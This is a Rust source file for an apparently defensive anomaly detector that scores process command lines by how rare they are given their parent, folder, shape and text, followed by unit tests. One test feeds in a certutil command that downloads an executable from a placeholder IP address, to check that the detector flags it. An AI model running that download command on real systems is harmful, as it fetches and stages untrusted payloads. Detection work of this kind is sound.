//! The default `cmdline` model: rarity in context.
//!
//! An analyst does not ask "is this line long or oddly spelled" but "have we seen *this* program
//! started *this* way, by *this* parent, before?". Each process start is scored on four
//! measures, each the surprisal (bits) of one part of the event given its context, estimated
//! from counts with absolute discounting ([`super::stats::discounted`]: a value seen once counts
//! as unseen, the chance of something new in a context is its variety):
//!
//! | measure | surprisal of | given | backs off to |
//! |---|---|---|---|
//! | `parent_child` | the executable | the parent executable | the executable's overall frequency |
//! | `folder` | the executable's folder (normalised like a template) | the executable's file name | the folder across executables |
//! | `shape` | the command's shape (program + switches, [`super::template::shape`]) | the executable | the shape across executables |
//! | `template` | the command template (volatile tokens as placeholders) | the executable | the template across executables |
//! | `text` | the template's character 3-grams (mean per 3-gram) | — | uniform over byte 3-grams |
//!
//! The **score** is the mean of the five measures' percentiles against the training events
//! (each percentile is the share of training events with a smaller surprisal on that measure,
//! ties counting half). So a line is odd when it is odd *in several respects at once* and
//! relative to what is usual for this log; no measure dominates through its units, and the
//! length of the line does not enter (the text measure is a mean per 3-gram). The sum of the
//! five surprisals is reported as the native measure (`surprisal_bits`).
//!
//! Optionally (`host_user_context`) two more measures enter: the executable given the host and
//! given the account (Elastic's rare-process-by-host/user jobs). On the labelled sets they did
//! not help (see the crate README's evaluation), so they are off by default but always shown in
//! explanations ("first time on this host").
//!
//! **Training state** ([`RarityCounts`]) is counts — executables, parent→child pairs, folders and
//! templates per executable, executables per host and per account — and a bottom-k sample of 20,000
//! events (for the training score distribution and for example lines). Counts add and samples
//! merge, so partial states from shards merge exactly. Memory is bounded by `max_templates`:
//! beyond it, the least frequent templates are dropped (counted in `pruned`), which makes a
//! dropped template look new again; merging is then no longer exactly training on the union.

use super::nearest::{byte_grams, Candidates};
use super::stats::{bits, discounted, BottomK, WeightedDistribution};
use super::template::{shape, words};
use serde::{Deserialize, Serialize};
use serde_json::{json, Value};
use std::collections::HashMap;

/// Events kept in the training sample.
pub const EVENT_SAMPLE: usize = 20_000;
/// Usual templates kept per executable for "normal looks like" (the most frequent).
const NEAREST_PER_EXECUTABLE: usize = 32;
/// The lowest back-off of the text measure: uniform over all byte 3-grams.
const UNIFORM_GRAM: f64 = 1.0 / 16_777_216.0;

/// `context → value → count`.
pub type Table = HashMap<String, HashMap<String, u64>>;

/// One sampled training event.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct SampledEvent {
    /// Parent file name.
    pub parent: String,
    /// Executable file name.
    pub executable: String,
    /// Host.
    pub host: String,
    /// Account.
    pub account: String,
    /// Folder of the executable.
    pub folder: String,
    /// Template.
    pub template: String,
    /// The command line as logged.
    pub command_line: String,
}

/// What the default model reads from one process start.
#[derive(Clone, Debug, PartialEq)]
pub struct Observation<'a> {
    /// Executable file name, lower case.
    pub executable: &'a str,
    /// Parent file name, lower case (`-` when unknown).
    pub parent: &'a str,
    /// Host, lower case.
    pub host: &'a str,
    /// Account, lower case.
    pub account: &'a str,
    /// The executable's folder, normalised like a template (`-` when unknown).
    pub folder: &'a str,
    /// Template of the command line.
    pub template: &'a str,
    /// The command line as logged.
    pub command_line: &'a str,
}

/// The mergeable training state of the default model.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct RarityCounts {
    /// Executable → process starts.
    pub executables: HashMap<String, u64>,
    /// Parent → executable → starts.
    pub children: Table,
    /// Executable → template → starts.
    pub templates: Table,
    /// Executable → folder → starts.
    pub folders: Table,
    /// Host → executable → starts.
    pub hosts: Table,
    /// Account → executable → starts.
    pub accounts: Table,
    /// Distinct (executable, template) entries held.
    pub template_entries: usize,
    /// Bound on `template_entries`.
    pub max_templates: usize,
    /// Observations whose template entry was dropped by the bound.
    pub pruned: u64,
    /// A sample of training events.
    pub sample: BottomK<SampledEvent>,
    /// Seed of the sample's keys.
    pub seed: u64,
}

fn bump(table: &mut Table, context: &str, value: &str, n: u64) -> bool {
    let inner = match table.get_mut(context) {
        Some(inner) => inner,
        None => table.entry(context.to_string()).or_default(),
    };
    match inner.get_mut(value) {
        Some(c) => {
            *c += n;
            false
        }
        None => {
            inner.insert(value.to_string(), n);
            true
        }
    }
}

impl RarityCounts {
    /// An empty state.
    pub fn new(max_templates: usize, seed: u64) -> Self {
        RarityCounts {
            executables: HashMap::new(),
            children: HashMap::new(),
            templates: HashMap::new(),
            folders: HashMap::new(),
            hosts: HashMap::new(),
            accounts: HashMap::new(),
            template_entries: 0,
            max_templates: max_templates.max(1),
            pruned: 0,
            sample: BottomK::new(EVENT_SAMPLE),
            seed,
        }
    }

    /// Counts one process start; `key` is its sample key (a [`stable_hash`] of the record's
    /// origin and content under the state's seed).
    pub fn observe(&mut self, o: &Observation, key: u64) {
        *self
            .executables
            .entry(o.executable.to_string())
            .or_insert(0) += 1;
        bump(&mut self.children, o.parent, o.executable, 1);
        bump(&mut self.folders, o.executable, o.folder, 1);
        bump(&mut self.hosts, o.host, o.executable, 1);
        bump(&mut self.accounts, o.account, o.executable, 1);
        if bump(&mut self.templates, o.executable, o.template, 1) {
            self.template_entries += 1;
            self.bound();
        }
        self.sample.offer(key, || SampledEvent {
            parent: o.parent.to_string(),
            executable: o.executable.to_string(),
            host: o.host.to_string(),
            account: o.account.to_string(),
            folder: o.folder.to_string(),
            template: o.template.to_string(),
            command_line: o.command_line.to_string(),
        });
    }

    /// Adds another state (shards of the same training set).
    pub fn merge(&mut self, other: RarityCounts) {
        for (k, v) in other.executables {
            *self.executables.entry(k).or_insert(0) += v;
        }
        for (table, theirs) in [
            (&mut self.children, other.children),
            (&mut self.folders, other.folders),
            (&mut self.hosts, other.hosts),
            (&mut self.accounts, other.accounts),
        ] {
            for (context, inner) in theirs {
                for (value, n) in inner {
                    bump(table, &context, &value, n);
                }
            }
        }
        for (context, inner) in other.templates {
            for (value, n) in inner {
                if bump(&mut self.templates, &context, &value, n) {
                    self.template_entries += 1;
                }
            }
        }
        self.pruned += other.pruned;
        self.sample.merge(other.sample);
        self.bound();
    }

    /// Keeps the template table within `max_templates`: drops the least frequent entries until
    /// half the bound is left (so pruning is rare), counting the observations dropped.
    fn bound(&mut self) {
        if self.template_entries <= self.max_templates {
            return;
        }
        let target = self.max_templates / 2;
        let RarityCounts {
            templates,
            pruned,
            template_entries,
            ..
        } = self;
        let mut cut = 1;
        while *template_entries > target {
            for inner in templates.values_mut() {
                inner.retain(|_, n| {
                    if *n <= cut {
                        *pruned += *n;
                        *template_entries -= 1;
                        false
                    } else {
                        true
                    }
                });
            }
            templates.retain(|_, inner| !inner.is_empty());
            cut *= 2;
        }
    }

    /// Process starts counted.
    pub fn events(&self) -> u64 {
        self.executables.values().sum()
    }
}

/// The measures of the default model, in score order.
pub const MEASURES: [&str; 7] = [
    "parent_child",
    "folder",
    "shape",
    "template",
    "text",
    "host_executable",
    "account_executable",
];

/// A `context → (total, distinct)` summary of a table.
fn totals(table: &Table) -> HashMap<String, (u64, u64)> {
    table
        .iter()
        .map(|(k, inner)| (k.clone(), (inner.values().sum(), inner.len() as u64)))
        .collect()
}

/// Counts of a value across contexts, with total and distinct.
struct Marginal {
    counts: HashMap<String, u64>,
    total: u64,
    distinct: u64,
}

impl Marginal {
    fn new(counts: HashMap<String, u64>) -> Self {
        let total = counts.values().sum();
        let distinct = counts.len() as u64;
        Marginal {
            counts,
            total,
            distinct,
        }
    }

    fn probability(&self, value: &str) -> f64 {
        let c = self.counts.get(value).copied().unwrap_or(0);
        discounted(
            c,
            self.total,
            self.distinct,
            1.0 / (self.distinct + 1) as f64,
        )
    }
}

/// One measure of one event.
#[derive(Clone, Debug, PartialEq, Serialize)]
pub struct Part {
    /// Which measure ([`MEASURES`]).
    pub name: &'static str,
    /// Surprisal in bits (for `text`: mean bits per 3-gram).
    pub bits: f64,
    /// Percentile against the training events.
    pub percentile: f64,
    /// How often the value was seen in its context (`None` for `text`).
    pub seen: Option<u64>,
    /// Observations of the context.
    pub context_total: Option<u64>,
    /// Distinct values of the context.
    pub context_distinct: Option<u64>,
}

/// The default model's view of one event.
#[derive(Clone, Debug, PartialEq)]
pub struct Assessment {
    /// The measures that enter the score, then the others.
    pub parts: Vec<Part>,
    /// Mean percentile of the scoring measures.
    pub score: f64,
    /// Sum of the scoring measures' surprisals.
    pub surprisal: f64,
    /// Per-3-gram bits of the template (for highlighting).
    pub gram_bits: Vec<f64>,
}

/// The fitted default model.
pub struct RarityModel {
    counts: RarityCounts,
    host_user_context: bool,
    executables: Marginal,
    parent_totals: HashMap<String, (u64, u64)>,
    template_distinct: HashMap<String, u64>,
    global_templates: Marginal,
    folder_distinct: HashMap<String, u64>,
    global_folders: Marginal,
    shapes: Table,
    shape_distinct: HashMap<String, u64>,
    global_shapes: Marginal,
    grams: HashMap<u32, u64>,
    gram_total: u64,
    gram_distinct: u64,
    host_totals: HashMap<String, (u64, u64)>,
    account_totals: HashMap<String, (u64, u64)>,
    words: Table,
    usual: HashMap<String, Candidates>,
    examples: HashMap<(String, String), String>,
    distributions: Vec<WeightedDistribution>,
}

impl RarityModel {
    /// Fits the model: derived tables and each measure's training distribution.
    pub fn new(counts: RarityCounts, host_user_context: bool) -> Self {
        let executables = Marginal::new(counts.executables.clone());
        let parent_totals = totals(&counts.children);
        let template_distinct: HashMap<String, u64> = counts
            .templates
            .iter()
            .map(|(e, inner)| (e.clone(), inner.len() as u64))
            .collect();
        let mut global_templates: HashMap<String, u64> = HashMap::new();
        let mut shapes: Table = HashMap::new();
        let mut global_shapes: HashMap<String, u64> = HashMap::new();
        let mut grams: HashMap<u32, u64> = HashMap::new();
        let mut words_table: Table = HashMap::new();
        let mut shape_of: HashMap<(String, String), String> = HashMap::new();
        for (exe, inner) in &counts.templates {
            for (tmpl, &n) in inner {
                *global_templates.entry(tmpl.clone()).or_insert(0) += n;
                let s = shape(tmpl);
                bump(&mut shapes, exe, &s, n);
                *global_shapes.entry(s.clone()).or_insert(0) += n;
                for g in byte_grams(tmpl.as_bytes()) {
                    *grams.entry(g).or_insert(0) += n;
                }
                for w in words(tmpl) {
                    bump(&mut words_table, exe, w, n);
                }
                shape_of.insert((exe.clone(), tmpl.clone()), s);
            }
        }
        let mut global_folders: HashMap<String, u64> = HashMap::new();
        for inner in counts.folders.values() {
            for (f, &n) in inner {
                *global_folders.entry(f.clone()).or_insert(0) += n;
            }
        }
        let folder_distinct = counts
            .folders
            .iter()
            .map(|(e, inner)| (e.clone(), inner.len() as u64))
            .collect();
        let shape_distinct = shapes
            .iter()
            .map(|(e, inner)| (e.clone(), inner.len() as u64))
            .collect();
        let gram_total = grams.values().sum();
        let gram_distinct = grams.len() as u64;
        let usual = counts
            .templates
            .iter()
            .map(|(exe, inner)| {
                let mut top: Vec<(&String, &u64)> = inner.iter().filter(|(_, &n)| n >= 2).collect();
                top.sort_by(|a, b| b.1.cmp(a.1).then(a.0.cmp(b.0)));
                top.truncate(NEAREST_PER_EXECUTABLE);
                (
                    exe.clone(),
                    Candidates::new(top.into_iter().map(|(t, &n)| (t.clone(), n))),
                )
            })
            .collect();
        let mut examples: HashMap<(String, String), String> = HashMap::new();
        for (_, e) in counts.sample.sorted() {
            examples
                .entry((e.executable.clone(), e.template.clone()))
                .or_insert_with(|| e.command_line.clone());
        }
        let mut model = RarityModel {
            examples,
            host_totals: totals(&counts.hosts),
            account_totals: totals(&counts.accounts),
            executables,
            parent_totals,
            template_distinct,
            global_templates: Marginal::new(global_templates),
            folder_distinct,
            global_folders: Marginal::new(global_folders),
            shapes,
            shape_distinct,
            global_shapes: Marginal::new(global_shapes),
            grams,
            gram_total,
            gram_distinct,
            words: words_table,
            usual,
            distributions: Vec::new(),
            host_user_context,
            counts,
        };
        // Training distributions of each measure, weighted by how many events share the value.
        let mut pair = Vec::new();
        for (parent, inner) in &model.counts.children {
            for (exe, &n) in inner {
                pair.push((model.pair_bits(parent, exe).0, n as f64));
            }
        }
        let mut folder_d = Vec::new();
        for (exe, inner) in &model.counts.folders {
            for (folder, &n) in inner {
                folder_d.push((model.folder_bits(exe, folder).0, n as f64));
            }
        }
        let (mut shape_d, mut template_d, mut text_d) = (Vec::new(), Vec::new(), Vec::new());
        for (exe, inner) in &model.counts.templates {
            for (tmpl, &n) in inner {
                let s = &shape_of[&(exe.clone(), tmpl.clone())];
                shape_d.push((model.shape_bits(exe, s).0, n as f64));
                template_d.push((model.template_bits(exe, tmpl).0, n as f64));
                text_d.push((model.text_bits(tmpl).0, n as f64));
            }
        }
        let context_distribution = |table: &Table, bits: &dyn Fn(&str, &str) -> f64| {
            let mut v = Vec::new();
            for (context, inner) in table {
                for (exe, &n) in inner {
                    v.push((bits(context, exe), n as f64));
                }
            }
            WeightedDistribution::new(v)
        };
        let host_d = context_distribution(&model.counts.hosts, &|h, e| model.host_bits(h, e).0);
        let account_d =
            context_distribution(&model.counts.accounts, &|a, e| model.account_bits(a, e).0);
        model.distributions = vec![
            WeightedDistribution::new(pair),
            WeightedDistribution::new(folder_d),
            WeightedDistribution::new(shape_d),
            WeightedDistribution::new(template_d),
            WeightedDistribution::new(text_d),
            host_d,
            account_d,
        ];
        model
    }

    /// The training state the model was fitted from.
    pub fn counts(&self) -> &RarityCounts {
        &self.counts
    }

    /// How many measures enter the score.
    pub fn scoring_measures(&self) -> usize {
        if self.host_user_context {
            7
        } else {
            5
        }
    }

    fn exe_probability(&self, exe: &str) -> f64 {
        self.executables.probability(exe)
    }

    /// Surprisal of `exe` as a child of `parent`, with (seen, total, distinct).
    fn pair_bits(&self, parent: &str, exe: &str) -> (f64, u64, u64, u64) {
        let seen = self
            .counts
            .children
            .get(parent)
            .and_then(|m| m.get(exe))
            .copied()
            .unwrap_or(0);
        let (n, t) = self.parent_totals.get(parent).copied().unwrap_or((0, 0));
        let p = discounted(seen, n, t, self.exe_probability(exe));
        (bits(p), seen, n, t)
    }

    /// Surprisal of `value` (a folder, shape or template) given the executable: its count in
    /// `table` for `exe`, discounted over the executable's starts and its distinct values, with
    /// the value's share over all executables as the back-off.
    fn given_exe_bits(
        &self,
        table: &Table,
        distinct: &HashMap<String, u64>,
        global: &Marginal,
        exe: &str,
        value: &str,
    ) -> (f64, u64, u64, u64) {
        let seen = table
            .get(exe)
            .and_then(|m| m.get(value))
            .copied()
            .unwrap_or(0);
        let n = self.counts.executables.get(exe).copied().unwrap_or(0);
        let t = distinct.get(exe).copied().unwrap_or(0);
        let p = discounted(seen, n, t, global.probability(value));
        (bits(p), seen, n, t)
    }

    fn folder_bits(&self, exe: &str, folder: &str) -> (f64, u64, u64, u64) {
        let c = &self.counts;
        self.given_exe_bits(
            &c.folders,
            &self.folder_distinct,
            &self.global_folders,
            exe,
            folder,
        )
    }

    fn shape_bits(&self, exe: &str, s: &str) -> (f64, u64, u64, u64) {
        self.given_exe_bits(
            &self.shapes,
            &self.shape_distinct,
            &self.global_shapes,
            exe,
            s,
        )
    }

    fn template_bits(&self, exe: &str, tmpl: &str) -> (f64, u64, u64, u64) {
        let c = &self.counts;
        let (d, g) = (&self.template_distinct, &self.global_templates);
        self.given_exe_bits(&c.templates, d, g, exe, tmpl)
    }

    /// Mean surprisal per 3-gram of a template, and the per-3-gram bits.
    fn text_bits(&self, tmpl: &str) -> (f64, Vec<f64>) {
        let per: Vec<f64> = byte_grams(tmpl.as_bytes())
            .into_iter()
            .map(|g| {
                let c = self.grams.get(&g).copied().unwrap_or(0);
                bits(discounted(
                    c,
                    self.gram_total,
                    self.gram_distinct,
                    UNIFORM_GRAM,
                ))
            })
            .collect();
        let mean = per.iter().sum::<f64>() / per.len().max(1) as f64;
        (mean, per)
    }

    fn context_bits(
        table: &Table,
        totals: &HashMap<String, (u64, u64)>,
        context: &str,
        exe: &str,
        lower: f64,
    ) -> (f64, u64, u64, u64) {
        let seen = table
            .get(context)
            .and_then(|m| m.get(exe))
            .copied()
            .unwrap_or(0);
        let (n, t) = totals.get(context).copied().unwrap_or((0, 0));
        (bits(discounted(seen, n, t, lower)), seen, n, t)
    }

    fn host_bits(&self, host: &str, exe: &str) -> (f64, u64, u64, u64) {
        Self::context_bits(
            &self.counts.hosts,
            &self.host_totals,
            host,
            exe,
            self.exe_probability(exe),
        )
    }

    fn account_bits(&self, account: &str, exe: &str) -> (f64, u64, u64, u64) {
        Self::context_bits(
            &self.counts.accounts,
            &self.account_totals,
            account,
            exe,
            self.exe_probability(exe),
        )
    }

    /// Scores one event.
    pub fn assess(&self, o: &Observation) -> Assessment {
        let part = |i: usize, (b, seen, n, t): (f64, u64, u64, u64)| Part {
            name: MEASURES[i],
            bits: b,
            percentile: self.distributions[i].percentile(b),
            seen: Some(seen),
            context_total: Some(n),
            context_distinct: Some(t),
        };
        let s = shape(o.template);
        let (text, gram_bits) = self.text_bits(o.template);
        let parts = vec![
            part(0, self.pair_bits(o.parent, o.executable)),
            part(1, self.folder_bits(o.executable, o.folder)),
            part(2, self.shape_bits(o.executable, &s)),
            part(3, self.template_bits(o.executable, o.template)),
            Part {
                name: MEASURES[4],
                bits: text,
                percentile: self.distributions[4].percentile(text),
                seen: None,
                context_total: None,
                context_distinct: None,
            },
            part(5, self.host_bits(o.host, o.executable)),
            part(6, self.account_bits(o.account, o.executable)),
        ];
        let used = &parts[..self.scoring_measures()];
        let score = used.iter().map(|p| p.percentile).sum::<f64>() / used.len() as f64;
        let surprisal = used.iter().map(|p| p.bits).sum();
        Assessment {
            parts,
            score,
            surprisal,
            gram_bits,
        }
    }

    /// Scores of the sampled training events (the training score distribution).
    pub fn sample_scores(&self) -> Vec<f64> {
        self.counts
            .sample
            .sorted()
            .into_iter()
            .map(|(_, e)| {
                self.assess(&Observation {
                    executable: &e.executable,
                    parent: &e.parent,
                    host: &e.host,
                    account: &e.account,
                    folder: &e.folder,
                    template: &e.template,
                    command_line: &e.command_line,
                })
                .score
            })
            .collect()
    }

    /// A one-line reason list for the summary: the measures past the 90th percentile, oddest
    /// first.
    pub fn reasons(&self, o: &Observation, a: &Assessment) -> Vec<String> {
        let mut parts: Vec<&Part> = a.parts[..self.scoring_measures()]
            .iter()
            .filter(|p| p.percentile >= 0.9)
            .collect();
        parts.sort_by(|x, y| y.percentile.total_cmp(&x.percentile));
        parts
            .into_iter()
            .map(|p| match p.name {
                "parent_child" => match p.seen {
                    Some(0 | 1) => format!("{} never seen starting {}", o.parent, o.executable),
                    Some(n) => format!("{} rarely starts {} ({n}×)", o.parent, o.executable),
                    None => String::new(),
                },
                "folder" => format!("{} runs from an unusual folder: {}", o.executable, o.folder),
                "shape" => format!("new way of running {}: {}", o.executable, shape(o.template)),
                "template" => format!("unseen command line for {}", o.executable),
                "text" => match highlight(o.template, &a.gram_bits) {
                    Some(s) => format!("unusual text {s:?}"),
                    None => "unusual text".to_string(),
                },
                "host_executable" => format!("{} new on this host", o.executable),
                "account_executable" => format!("{} new for this account", o.executable),
                _ => String::new(),
            })
            .collect()
    }

    /// The structured explanation of one event (see the module documentation of `cmdline`).
    pub fn explain(&self, o: &Observation, a: &Assessment, with_nearest: bool) -> Value {
        let words_seen = self.words.get(o.executable);
        let rare_words: Vec<&str> = words(o.template)
            .into_iter()
            .filter(|w| words_seen.and_then(|m| m.get(*w)).copied().unwrap_or(0) <= 1)
            .take(12)
            .collect();
        let mut usual_children: Vec<(&String, &u64)> = self
            .counts
            .children
            .get(o.parent)
            .map(|m| m.iter().collect())
            .unwrap_or_default();
        usual_children.sort_by(|x, y| y.1.cmp(x.1).then(x.0.cmp(y.0)));
        usual_children.truncate(5);
        let nearest = if with_nearest {
            self.usual
                .get(o.executable)
                .and_then(|c| c.nearest(o.template))
                .map(|(line, count, sim)| {
                    json!({"template": line, "count": count, "similarity": sim,
                           "example": self.example_of(o.executable, line)})
                })
        } else {
            None
        };
        json!({
            "model": "default",
            "executable": o.executable,
            "parent": o.parent,
            "folder": o.folder,
            "usual_folders": self.usual_folders(o.executable),
            "template": o.template,
            "shape": shape(o.template),
            "score": a.score,
            "surprisal_bits": a.surprisal,
            "measures_in_score": self.scoring_measures(),
            "measures": a.parts,
            "rare_text": highlight(o.template, &a.gram_bits),
            "words_new_for_executable": rare_words,
            "executable_starts_in_training": self.counts.executables.get(o.executable).copied().unwrap_or(0),
            "usual_children_of_parent": usual_children.iter().map(|(e, n)| json!({"process": e, "count": n})).collect::<Vec<_>>(),
            "normal_for_executable": nearest,
            "pruned_observations": self.counts.pruned,
        })
    }

    /// The executable's most frequent folders in training (at most 3).
    fn usual_folders(&self, exe: &str) -> Vec<Value> {
        let mut v: Vec<(&String, &u64)> = self
            .counts
            .folders
            .get(exe)
            .map(|m| m.iter().collect())
            .unwrap_or_default();
        v.sort_by(|x, y| y.1.cmp(x.1).then(x.0.cmp(y.0)));
        v.into_iter()
            .take(3)
            .map(|(f, n)| json!({"folder": f, "count": n}))
            .collect()
    }

    /// A logged example of a template, from the training sample.
    fn example_of(&self, exe: &str, tmpl: &str) -> Option<&str> {
        self.examples
            .get(&(exe.to_string(), tmpl.to_string()))
            .map(String::as_str)
    }
}

/// The stretch of `text` around its rarest 3-grams: the rarest one and its neighbours while they
/// stay within 75 % of its surprisal, at most 48 bytes, on character boundaries.
pub fn highlight(text: &str, gram_bits: &[f64]) -> Option<String> {
    let (top, &max) = gram_bits
        .iter()
        .enumerate()
        .max_by(|a, b| a.1.total_cmp(b.1).then(b.0.cmp(&a.0)))?;
    if text.is_empty() {
        return None;
    }
    let keep = |i: usize| gram_bits.get(i).is_some_and(|&b| b >= 0.75 * max);
    let (mut lo, mut hi) = (top, top);
    while lo > 0 && keep(lo - 1) && hi - lo < 46 {
        lo -= 1;
    }
    while keep(hi + 1) && hi - lo < 46 {
        hi += 1;
    }
    // Gram i ends at byte i (grams start with two marks): it covers bytes i-2..=i.
    let start = lo.saturating_sub(2);
    let end = (hi + 1).min(text.len());
    let mut s = start.min(text.len());
    while s > 0 && !text.is_char_boundary(s) {
        s -= 1;
    }
    let mut e = end.max(s);
    while e < text.len() && !text.is_char_boundary(e) {
        e += 1;
    }
    let part = text.get(s..e)?;
    (!part.is_empty()).then(|| part.to_string())
}

#[cfg(test)]
mod tests {
    use super::super::stats::stable_hash;
    use super::super::template::template;
    use super::*;

    const SERVICES: [&str; 20] = [
        "Schedule",
        "BITS",
        "Dhcp",
        "Dnscache",
        "EventLog",
        "gpsvc",
        "LanmanServer",
        "Netman",
        "nsi",
        "PlugPlay",
        "Power",
        "ProfSvc",
        "RpcSs",
        "SENS",
        "ShellHWDetection",
        "Themes",
        "TrkWks",
        "UserManager",
        "Winmgmt",
        "wuauserv",
    ];

    fn observe(c: &mut RarityCounts, parent: &str, exe: &str, line: &str, i: u64) {
        let t = template(line);
        c.observe(
            &Observation {
                executable: exe,
                parent,
                host: "h1",
                account: "corp\\a",
                folder: "c:\\windows\\system<n>",
                template: &t,
                command_line: line,
            },
            stable_hash(1, &[&i.to_le_bytes()]),
        );
    }

    fn baseline() -> RarityCounts {
        let mut c = RarityCounts::new(1_000, 1);
        let mut i = 0;
        for k in 0..60 {
            observe(
                &mut c,
                "services.exe",
                "svchost.exe",
                &format!(
                    r"C:\Windows\system32\svchost.exe -k netsvcs -p -s {}",
                    SERVICES[k % 20]
                ),
                i,
            );
            i += 1;
            observe(
                &mut c,
                "cmd.exe",
                "conhost.exe",
                r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
                i,
            );
            i += 1;
            observe(&mut c, "explorer.exe", "cmd.exe", "cmd.exe /c dir", i);
            i += 1;
        }
        c
    }

    fn assess(m: &RarityModel, parent: &str, exe: &str, line: &str) -> Assessment {
        let t = template(line);
        m.assess(&Observation {
            executable: exe,
            parent,
            host: "h1",
            account: "corp\\a",
            folder: "c:\\windows\\system<n>",
            template: &t,
            command_line: line,
        })
    }

    #[test]
    fn odd_lines_outrank_usual_ones() {
        let m = RarityModel::new(baseline(), false);
        let usual = assess(
            &m,
            "cmd.exe",
            "conhost.exe",
            r"\??\C:\Windows\system32\conhost.exe 0x4 -ForceV1",
        );
        let new_service = assess(
            &m,
            "services.exe",
            "svchost.exe",
            r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Brand_New",
        );
        let odd = assess(
            &m,
            "cmd.exe",
            "certutil.exe",
            "certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe",
        );
        assert!(odd.score > new_service.score, "{odd:?} vs {new_service:?}");
        assert!(new_service.score > usual.score);
        // A new service for the service host is less surprising than a new conhost line.
        let new_conhost = assess(
            &m,
            "cmd.exe",
            "conhost.exe",
            r"\??\C:\Windows\system32\conhost.exe -Evil",
        );
        assert!(new_conhost.parts[2].bits > new_service.parts[2].bits);
        assert!(odd.parts[0].seen == Some(0));
    }

    #[test]
    fn merge_equals_training_on_the_union() {
        let whole = baseline();
        let mut left = RarityCounts::new(1_000, 1);
        let mut right = RarityCounts::new(1_000, 1);
        let mut i = 0;
        for k in 0..60 {
            let target = if k % 2 == 0 { &mut left } else { &mut right };
            observe(
                target,
                "services.exe",
                "svchost.exe",
                &format!(
                    r"C:\Windows\system32\svchost.exe -k netsvcs -p -s {}",
                    SERVICES[k % 20]
                ),
                i,
            );
            i += 1;
            observe(
                target,
                "cmd.exe",
                "conhost.exe",
                r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
                i,
            );
            i += 1;
            observe(target, "explorer.exe", "cmd.exe", "cmd.exe /c dir", i);
            i += 1;
        }
        left.merge(right);
        assert_eq!(left, whole);
    }

    #[test]
    fn bound_drops_the_rarest_templates() {
        let mut c = RarityCounts::new(10, 1);
        for i in 0..30u64 {
            observe(
                &mut c,
                "p",
                "x.exe",
                &format!("x.exe /{}", (b'a' + (i % 26) as u8) as char),
                i,
            );
        }
        assert!(c.template_entries <= 10);
        assert!(c.pruned > 0);
        assert_eq!(c.events(), 30);
    }

    #[test]
    fn highlight_covers_the_rarest_stretch() {
        let bits = vec![1.0, 1.0, 1.0, 9.0, 9.0, 1.0, 1.0];
        assert_eq!(highlight("abcdef", &bits).as_deref(), Some("bcde"));
        assert_eq!(highlight("", &[1.0]), None);
    }
}
